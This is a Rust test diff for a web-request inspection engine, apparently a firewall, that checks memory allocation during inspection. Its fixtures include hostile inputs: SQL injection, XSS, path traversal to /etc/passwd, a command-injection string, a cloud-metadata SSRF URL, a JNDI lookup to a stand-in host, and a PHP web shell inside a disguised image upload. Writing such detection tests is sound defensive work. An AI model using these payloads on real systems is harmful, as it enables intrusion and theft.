@@ -59,6 +59,12 @@ fn checks_allocate_nothing() {
     let engine = common::blocking_engine();
     let mut request = Request::new();
     let mut checked = 0;
+    // Payload inspection decodes into per-thread scratch buffers: they grow on the first
+    // requests (warm-up) and are reused after that.
+    for case in cases.iter().filter(|c| c.kind == "payload") {
+        case.fill(&mut request);
+        case.check(&engine, &request);
+    }
     for case in &cases {
         case.fill(&mut request);
         let (outcome, allocations) = counted(|| case.check(&engine, &request));
@@ -153,4 +159,74 @@ fn checks_allocate_nothing() {
         request.add_input(Source::Body, b"email", b"' OR 1=1-- ");
     });
     assert_eq!(allocations, 0, "refilling a reused request");
+}
+
+#[test]
+fn inspect_allocates_nothing_after_warm_up() {
+    let engine = common::blocking_engine();
+    // A typical request: 20 inputs, about 2 KB, some of them hostile.
+    let mut request = Request::with_capacity(32, 1 << 14);
+    request.set_method(b"POST");
+    request.set_path(b"/api/orders/42");
+    let values: [&[u8]; 20] = [
+        b"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
+        b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+        b"session=abc123; theme=dark",
+        b"https://shop.example.com/cart?item=3&qty=2",
+        b"O'Brien",
+        b"' OR 1=1-- ",
+        b"%253Cscript%253Ealert(1)",
+        b"<img src=x onerror=alert(1)>",
+        b"../../etc/passwd",
+        b"http://169.254.169.254/latest/meta-data/",
+        b"; cat /etc/passwd",
+        b"&lt;b&gt;bold&lt;/b&gt;",
+        b"\\u003cscript\\u003e",
+        b"2024-01-05",
+        b"42",
+        b"black and white",
+        b"{{7*7}}",
+        b"${jndi:ldap://x.example/a}",
+        b"shipping address, second line",
+        b"100% cotton",
+    ];
+    for (i, value) in values.iter().enumerate() {
+        let source = if i < 3 { Source::Header } else { Source::Body };
+        request.add_input(source, format!("field{i}").as_bytes(), value);
+    }
+    request.add_file(b"avatar", b"me.php.jpg", b"image/jpeg", b"<?php system($_GET['c']);");
+    // Each value alone, then the whole request: warm up, then count.
+    let mut single = Request::with_capacity(4, 1 << 12);
+    let mut run = |count: bool| {
+        let mut total = 0;
+        for value in values {
+            single.reset();
+            single.add_input(Source::Query, b"q", value);
+            let (_, allocations) = counted(|| engine.inspect(&single));
+            total += allocations;
+        }
+        let (verdict, allocations) = counted(|| engine.inspect(&request));
+        assert!(verdict.is_attack());
+        if count {
+            assert_eq!(total + allocations, 0, "inspect allocated after warm-up");
+        }
+    };
+    run(false);
+    run(true);
+
+    // Hostile values with caller-owned scratch: 10 MB, 50 rounds of URL encoding,
+    // invalid UTF-8, NUL bytes.
+    let mut encoded = b"%3Cscript%3E".to_vec();
+    for _ in 1..50 {
+        encoded = encoded.iter().flat_map(|&b| if b == b'%' { b"%25".to_vec() } else { vec![b] }).collect();
+    }
+    let huge = "a' OR 'x'='x <b> ; ".repeat(10 << 20 >> 4);
+    let mut hostile = Request::with_capacity(8, 12 << 20);
+    hostile.add_input(Source::Body, b"huge", huge.as_bytes());
+    hostile.add_input(Source::Body, b"encoded", &encoded);
+    hostile.add_input(Source::Body, b"binary", &[0xff, 0xfe, b'\'', 0, 0xc0, 0xaf, b'<', 0x80]);
+    let mut scratch = rampart_core::InspectScratch::new();
+    engine.inspect_with(&hostile, &mut scratch);
+    let (_, allocations) = counted(|| engine.inspect_with(&hostile, &mut scratch));
+    assert_eq!(allocations, 0, "inspect_with allocated on a warmed-up scratch");
 }
